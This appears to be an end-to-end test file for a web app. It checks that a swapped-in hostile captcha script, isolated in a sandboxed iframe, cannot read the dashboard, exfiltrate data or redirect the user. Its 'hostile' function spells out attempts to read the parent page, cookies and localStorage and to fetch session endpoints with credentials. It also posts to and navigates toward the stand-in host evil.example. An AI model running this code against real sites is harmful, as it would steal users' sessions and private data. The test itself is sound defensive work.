import { appUrl } from '../../scripts/e2e-ports'
import { expect, test } from '../fixtures'
import { letIn, newPerson } from '../given'
import { expectStep, logIn } from './login'

/** What a vendor's script that was replaced would try, and what it got. It can only tell by the messages it posts. */
function hostile() {
  const loot: Record<string, string> = {}
  const attempt = (name: string, read: () => unknown) => {
    try {
      loot[name] = String(read())
    } catch {
      // Refused.
    }
  }
  attempt('page', () => window.parent.document.documentElement.outerHTML)
  attempt('address', () => window.parent.location.href)
  attempt('cookie', () => document.cookie)
  attempt('storage', () => JSON.stringify(window.parent.localStorage))
  attempt('navigation', () => {
    window.parent.location.href = 'http://evil.example/'
  })
  const fetched = ['/api/auth/session', '/accounts', '/settings'].map(async (path) => {
    const url = new URL(path, document.body.dataset.parent ?? window.location.href)
    loot[`fetch ${path}`] = await (await fetch(url, { credentials: 'include' })).text()
  })
  const sent = fetch('http://evil.example/loot', { method: 'POST', mode: 'no-cors', body: 'x' }).then(() => {
    loot.sent = 'yes'
  })
  void Promise.allSettled([...fetched, sent]).then(() => {
    const opened = window.open('/settings')
    if (opened) loot.opened = 'yes'
    window.parent.postMessage({ type: 'loot', loot }, '*')
  })
}

test('a replaced captcha script reads nothing of the dashboard, sends nothing out and leads nowhere', async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: appUrl })
  const page = await context.newPage()
  await letIn(page, await newPerson())
  await context.route('**/arkose/**/api.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `(${hostile})()` }),
  )
  const gone: string[] = []
  await context.route('http://evil.example/**', (route) => {
    gone.push(route.request().url())
    return route.fulfill({ body: '' })
  })
  await page.addInitScript(() => {
    window.addEventListener('message', ({ data }) => {
      if (data?.type === 'loot') Object.assign(window, { loot: data.loot })
    })
  })
  await logIn(page, 'linkedin', 'captcha')
  await expectStep(page, 'CAPTCHA')
  const address = page.url()
  await page.waitForFunction(() => 'loot' in window)
  expect(await page.evaluate(() => (window as unknown as { loot: object }).loot)).toEqual({})
  expect(gone).toEqual([])
  expect(page.url()).toBe(address)
  expect(context.pages()).toHaveLength(1)
  await context.close()
})

test('opened by itself, the captcha’s page has an origin of its own, too', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: appUrl })
  const page = await context.newPage()
  await letIn(page, await newPerson())
  await logIn(page, 'linkedin', 'captcha')
  await expectStep(page, 'CAPTCHA')
  await page.goto((await page.getByTestId('captcha').locator('iframe').getAttribute('src')) ?? '')
  expect(await page.evaluate(() => self.origin)).toBe('null')
  await context.close()
})
